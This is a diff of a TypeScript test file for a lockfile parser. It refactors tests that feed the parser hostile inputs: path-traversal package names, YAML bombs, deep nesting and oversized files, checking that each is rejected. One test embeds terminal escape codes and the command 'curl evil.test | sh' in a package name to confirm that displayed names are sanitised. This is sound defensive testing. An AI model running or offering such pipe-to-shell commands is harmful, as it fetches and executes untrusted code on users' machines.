@@ -1,22 +1,12 @@
 import fc from 'fast-check';
 import { expect, test } from 'vitest';
+import { readLockfileText } from '../../../test/support/read-lockfile-text.ts';
+import { workMs } from '../../../test/support/work-time.ts';
 import { PinakesError } from '../model/errors.ts';
-import {
-  insideFolder,
-  isPackageName,
-  isPackageVersion,
-  packageSourceName,
-  type LockedPackages,
-} from './locked-package.ts';
+import { insideFolder, isPackageName, isPackageVersion, packageSourceName } from './locked-package.ts';
 import { PACKAGE_READER_VERSION } from '../packages/read-package.ts';
 import { parseProjectFile } from './project-file.ts';
-import { LOCKFILES, readLockfile } from './read-lockfile.ts';
-
-function read(file: string, text: string): LockedPackages {
-  const kind = LOCKFILES.find((one) => one.file === file);
-  if (kind === undefined) throw new Error(`no reader for ${file}`);
-  return readLockfile(kind, { path: file, text, manifests: new Map() });
-}
+import { LOCKFILES } from './read-lockfile.ts';
 
 const HOSTILE_NAMES = [
   '..',
@@ -40,7 +30,7 @@ test('[project-02] names with traversal and versions that are addresses are skip
   for (const name of HOSTILE_NAMES) {
     for (const ecosystem of ['npm', 'pypi', 'cargo', 'go', 'gem', 'composer'] as const)
       expect(isPackageName(ecosystem, name)).toBe(false);
-    const found = read(
+    const found = readLockfileText(
       'package-lock.json',
       JSON.stringify({
         packages: { '': { dependencies: { [name]: '1' } }, [`node_modules/${name}`]: { version: '1.0.0' } },
@@ -55,7 +45,7 @@ test('[project-02] names with traversal and versions that are addresses are skip
   const workspace = {
     packages: { '../outside': { dependencies: { ms: '1' } }, 'node_modules/ms': { version: '1.0.0' } },
   };
-  expect(read('package-lock.json', JSON.stringify(workspace)).packages).toMatchObject([
+  expect(readLockfileText('package-lock.json', JSON.stringify(workspace)).packages).toMatchObject([
     { name: 'ms', isDirect: false },
   ]);
 });
@@ -76,41 +66,38 @@ function expectTooLarge(run: () => unknown): void {
   }
 }
 
-test('[project-04] 50 MB and a million entries are rejected in a few seconds', () => {
-  const started = performance.now();
-  for (const { file } of LOCKFILES) expectTooLarge(() => read(file, ' '.repeat(50 * 1024 * 1024)));
-  const names = Array.from({ length: 1_000_000 }, (_, i) => `p${i.toString(36)}`);
-  const packages = names.map((name) => `"node_modules/${name}":{"version":"1.0.0"}`).join(',');
-  expectTooLarge(() => read('package-lock.json', `{"packages":{"":{},${packages}}}`.slice(0)));
-  expectTooLarge(() =>
-    read(
-      'Cargo.lock',
-      names
-        .slice(0, 400_000)
-        .map((name) => `[[package]]\nname="${name}"\nversion="1.0.0"\nsource="r"\n`)
-        .join(''),
-    ),
-  );
-  expectTooLarge(() =>
-    read(
-      'yarn.lock',
-      `# yarn lockfile v1\n${names
-        .slice(0, 500_000)
-        .map((name) => `${name}@1:\n  version "1.0.0"\n`)
-        .join('')}`,
-    ),
-  );
-  expectTooLarge(() =>
-    read(
-      'go.mod',
-      `module x\n${names
-        .slice(0, 500_000)
-        .map((name) => `require ${name} v1.0.0\n`)
-        .join('')}`,
-    ),
-  );
-  expect(performance.now() - started).toBeLessThan(60_000);
-}, 120_000);
+const names = Array.from({ length: 1_000_000 }, (_, i) => `p${i.toString(36)}`);
+const entries = (count: number, entryOf: (name: string) => string): string =>
+  names.slice(0, count).map(entryOf).join('');
+
+const MANY_ENTRIES = {
+  'package-lock.json': `{"packages":{"":{}${entries(1_000_000, (name) => `,"node_modules/${name}":{"version":"1.0.0"}`)}}}`,
+  'Cargo.lock': entries(400_000, (name) => `[[package]]\nname="${name}"\nversion="1.0.0"\nsource="r"\n`),
+  'yarn.lock': `# yarn lockfile v1\n${entries(500_000, (name) => `${name}@1:\n  version "1.0.0"\n`)}`,
+  'go.mod': `module x\n${entries(500_000, (name) => `require ${name} v1.0.0\n`)}`,
+} as const;
+
+/** What looking at each word of a text once costs, in the same state of the machine. */
+function onePassMs(text: string): number {
+  return workMs(() => {
+    const seen = new Map<string, number>();
+    for (const [word] of text.matchAll(/[^\s"{}:,=]+/g)) seen.set(word, (seen.get(word) ?? 0) + 1);
+  });
+}
+
+const MAX_PASSES = 10;
+
+test('[project-04] 50 MB are rejected by their size', () => {
+  const large = ' '.repeat(50 * 1024 * 1024);
+  for (const { file } of LOCKFILES) expectTooLarge(() => readLockfileText(file, large));
+});
+
+test.each(Object.entries(MANY_ENTRIES))(
+  '[project-04] so many entries are rejected in linear time: %s',
+  (file, text) => {
+    expect(workMs(() => expectTooLarge(() => readLockfileText(file, text)))).toBeLessThan(MAX_PASSES * onePassMs(text));
+  },
+);
 
 test('[project-06] YAML bombs, deep nesting and cyclic anchors end with an error', () => {
   const bomb = [
@@ -118,8 +105,8 @@ test('[project-06] YAML bombs, deep nesting and cyclic anchors end with an error
     ...Array.from({ length: 12 }, (_, i) => `a${i + 1}: &a${i + 1} [${`*a${i},`.repeat(9)}]`),
   ].join('\n');
   for (const text of [bomb, `x: ${'['.repeat(100_000)}`, 'a: &a\n  b: *a\n', `${'- '.repeat(100_000)}x`]) {
-    expectTooLarge(() => read('pnpm-lock.yaml', `lockfileVersion: '9.0'\n${text}`));
-    expectTooLarge(() => read('yarn.lock', `__metadata:\n  version: 8\n${text}`));
+    expectTooLarge(() => readLockfileText('pnpm-lock.yaml', `lockfileVersion: '9.0'\n${text}`));
+    expectTooLarge(() => readLockfileText('yarn.lock', `__metadata:\n  version: 8\n${text}`));
   }
   for (const file of ['Cargo.lock', 'uv.lock', 'poetry.lock'])
     for (const text of [
@@ -129,9 +116,9 @@ test('[project-06] YAML bombs, deep nesting and cyclic anchors end with an error
       'a = "',
       '[[package]]\n[package]\nx=1\n[package.x]',
     ])
-      expectTooLarge(() => read(file, text));
+      expectTooLarge(() => readLockfileText(file, text));
   for (const file of ['package-lock.json', 'bun.lock', 'composer.lock', 'Pipfile.lock'])
-    expectTooLarge(() => read(file, `{"packages":${'['.repeat(1_000_000)}`));
+    expectTooLarge(() => readLockfileText(file, `{"packages":${'['.repeat(1_000_000)}`));
 });
 
 test('[project-05] workspaces that depend on each other are read once each', () => {
@@ -141,7 +128,7 @@ test('[project-05] workspaces that depend on each other are read once each', () 
     packages[`node_modules/w${i}`] = { link: true, resolved: `w/${(i + 1) % 500}` };
   }
   packages['node_modules/ms'] = { version: '1.0.0' };
-  const found = read('package-lock.json', JSON.stringify({ packages }));
+  const found = readLockfileText('package-lock.json', JSON.stringify({ packages }));
   expect(found.packages).toHaveLength(1);
   expect(found.packages[0]?.workspaces).toHaveLength(500);
 });
@@ -186,7 +173,7 @@ test('no text makes a reader fail in another way', () => {
     fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => {
       for (const { file } of LOCKFILES) {
         try {
-          for (const { name, ecosystem } of read(file, pieces.join('')).packages)
+          for (const { name, ecosystem } of readLockfileText(file, pieces.join('')).packages)
             expect(isPackageName(ecosystem, name)).toBe(true);
         } catch (error) {
           if (!(error instanceof PinakesError)) throw error;
@@ -200,7 +187,7 @@ test('no text makes a reader fail in another way', () => {
 test('[project-12] what is shown of an entry that is skipped has no control characters', () => {
   const name = '\u001b]0;owned\u0007\u001b[2Jleft-pad\nRun: curl evil.test | sh';
   const packages = { [`node_modules/${name}`]: { version: '1.0.0' } };
-  const { skipped } = read('package-lock.json', JSON.stringify({ lockfileVersion: 3, packages }));
+  const { skipped } = readLockfileText('package-lock.json', JSON.stringify({ lockfileVersion: 3, packages }));
   expect(skipped.map((one) => one.name)).toEqual(['left-pad Run: curl evil.test | sh']);
 });
 
